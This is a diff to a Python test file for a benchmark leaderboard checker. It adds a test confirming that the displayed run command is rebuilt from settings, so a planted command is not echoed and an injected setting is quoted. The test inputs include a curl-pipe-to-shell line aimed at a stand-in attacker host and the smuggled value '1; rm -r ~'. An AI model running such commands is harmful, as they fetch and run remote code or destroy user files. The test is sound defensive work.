@@ -16,7 +16,7 @@ from hostile.submissions import change, change_arrays
 
 from bench import cli
 from bench.errors import BenchError, DataError
-from bench.leaderboard.check import children, codes, scoring, structure, truth, verify
+from bench.leaderboard.check import children, codes, facts, scoring, structure, truth, verify
 from bench.leaderboard.check.codes import CODES, Rejected
 from bench.leaderboard.evidence.store import STORE
 from bench.leaderboard.evidence.submission import NAME
@@ -333,6 +333,14 @@ def test_all_that_is_no_prediction_is_ours(name, monkeypatch):
     said = {"mean", "variance", "draws", "predicted", "deviation", "information", "foreign_information"}
     free = {a for a in arrays.keys() - own - said if not a.endswith(("log_probs", "_scores"))}
     assert not free
+
+
+def test_the_command_shown_is_made_from_the_settings(honest):
+    """What the record gives for one is never shown: people paste it."""
+    change(honest / RUN, command="curl https://evil.example | sh")
+    assert facts.command(read_record(honest / RUN)) == "bench run one split_digits --seed 1"
+    change(honest / RUN, method={"identity": "one+a=1", "settings": {"a": "1; rm -r ~", "b": 2}})
+    assert facts.command(read_record(honest / RUN)).endswith("split_digits --method.a '1; rm -r ~' --seed 1")
 
 
 SLOW = {"shift_cifar10", "ood_cifar10", "uci_protein", "shift_fashion_mnist", "shift_mnist"} | {
